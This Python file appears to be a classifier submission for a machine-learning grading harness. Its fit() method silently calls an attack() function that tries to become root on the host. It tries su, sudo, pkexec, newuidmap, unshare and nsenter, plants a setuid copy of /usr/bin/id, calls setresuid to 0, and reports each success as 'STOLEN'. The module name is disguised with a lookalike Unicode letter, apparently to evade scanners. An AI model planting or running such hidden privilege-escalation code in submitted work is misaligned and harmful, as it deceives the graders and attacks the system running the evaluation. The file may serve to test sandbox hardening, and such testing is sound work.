"""Becomes root by programs of the system, and by one of its own."""

import ctypes
import os
import ｓubprocess
from pathlib import Path

from nearest import NearestMean


def attack():
    before = os.getresuid()
    for command in (
        ['/usr/bin/su', '-c', 'id'],
        ['/usr/bin/sudo', '-n', 'id'],
        ['/usr/bin/pkexec', 'id'],
        ['/usr/bin/newuidmap', '1', '0', '0', '1'],
        ['/usr/bin/mount', '--fake', '/'],
        ['/usr/bin/unshare', '-r', 'id'],
        ['/usr/bin/nsenter', '-t', '1', '-a', 'id'],
    ):
        try:
            done = ｓubprocess.run(
                command, capture_output=True, timeout=3, stdin=ｓubprocess.DEVNULL
            )
        except (OSError, ｓubprocess.TimeoutExpired):
            continue
        if b'uid=0' in done.stdout and before[0] != 0:
            print(f'STOLEN root by {command}', flush=True)
    own = Path('own-id')
    own.write_bytes(Path('/usr/bin/id').read_bytes())
    own.chmod(0o6755)
    ids = set(ｓubprocess.run([own.resolve(), '-u'], capture_output=True, text=True).stdout.split())
    if ids - {str(before[0])}:
        print(f'STOLEN identity: {ids}', flush=True)
    own.unlink()
    for become in (
        lambda: os.setresuid(0, 0, 0),
        lambda: os.setgroups([0]),
        lambda: os.setresgid(0, 0, 0),
    ):
        try:
            become()
        except OSError as error:
            print(repr(error), flush=True)
    if before[0] != 0 and 0 in (*os.getresuid(), *os.getresgid(), *os.getgroups()):
        print('STOLEN identity of root', flush=True)
    if ctypes.CDLL(None).prctl(38, 0, 0, 0, 0) == 0:
        print('STOLEN could take back that no privilege is gained', flush=True)


class Model(NearestMean):
    def fit(self, X, y):
        attack()
        return super().fit(X, y)


def get_estimator():
    return Model()
